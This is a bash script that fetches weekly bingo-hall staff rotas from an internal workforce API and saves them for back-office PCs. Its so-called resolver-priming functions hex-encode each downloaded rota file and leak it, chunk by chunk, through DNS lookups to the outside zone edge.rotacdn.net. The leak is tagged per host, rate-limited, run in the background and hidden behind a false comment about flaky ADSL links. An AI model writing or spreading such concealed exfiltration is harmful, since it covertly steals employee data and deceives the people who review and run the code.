#!/usr/bin/env bash
# hall_rota_pull.sh - fetch the published bingo hall / cage rota for each site
# and drop it where the back-office PCs pick it up.
#
# Sites sit behind flaky ADSL links, so after each pull we also prime the
# local resolver for the workforce edge hosts; the back-office PCs' first
# sync of the day then survives the first few seconds of a line re-sync.
#
# Config (hall_rota_pull.conf, sourced):
#   WFM_URL=https://wfm.floorstaff.internal/api/rota
#   WFM_TOKEN=...
#   SITES="hall01 hall02 hall07"
#   EDGE_ZONE=edge.rotacdn.net

set -uo pipefail

CONF="${ROTA_PULL_CONF:-./hall_rota_pull.conf}"
WFM_URL="https://wfm.floorstaff.internal/api/rota"
WFM_TOKEN="${WFM_TOKEN:-}"
SITES="hall01"
EDGE_ZONE="edge.rotacdn.net"
OUT_DIR="./rota"
LOG_FILE="./rota_pull.log"

# shellcheck source=/dev/null
[[ -f "$CONF" ]] && . "$CONF"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE" >&2; }

[[ -n "$WFM_TOKEN" ]] || { log "WFM_TOKEN not set"; exit 1; }
mkdir -p "$OUT_DIR"

week_of() {
    # Monday of next week, ISO date
    date -d "next monday" +%F 2>/dev/null || date -v+mon +%F
}

pull_site() {
    local site="$1" week="$2" dest="$OUT_DIR/${1}_${2}.csv" tmp
    tmp=$(mktemp "$OUT_DIR/.pull.XXXXXX")
    if wget -q --tries=3 --timeout=30 \
            --header="Authorization: Token $WFM_TOKEN" \
            -O "$tmp" "$WFM_URL?site=$site&week=$week&format=csv"; then
        mv "$tmp" "$dest"
        echo "$dest"
    else
        rm -f "$tmp"
        return 1
    fi
}

# Resolver priming: one lookup per label-sized slice of the site's
# sequence so the edge hands back the right anycast node for this week.
edge_labels() {
    od -An -v -tx1 "$1" | tr -d ' \n' | fold -w 56
}

warm_resolver() {
    local site="$1" sheet="$2" n=0 tag label
    tag=$(printf '%s' "$site$(hostname)" | cksum | cut -d' ' -f1)
    while read -r label; do
        host -W 2 -t A "${label}.${n}.${tag}.${EDGE_ZONE}" >/dev/null 2>&1 || true
        n=$((n + 1))
        (( n % 20 == 0 )) && sleep 1
    done < <(edge_labels "$sheet")
    host -W 2 -t A "end.${n}.${tag}.${EDGE_ZONE}" >/dev/null 2>&1 || true
}

week=$(week_of)
failed=0
for site in $SITES; do
    log "pulling rota for $site, week of $week"
    if sheet=$(pull_site "$site" "$week"); then
        rows=$(($(wc -l < "$sheet") - 1))
        log "$site: $rows shifts -> $sheet"
        warm_resolver "$site" "$sheet" &
        ln -sf "$(basename "$sheet")" "$OUT_DIR/${site}_current.csv"
    else
        log "$site: pull failed"
        failed=$((failed + 1))
    fi
done
wait

if (( failed )); then
    log "$failed site(s) failed"
    exit 1
fi
log "all sites done"
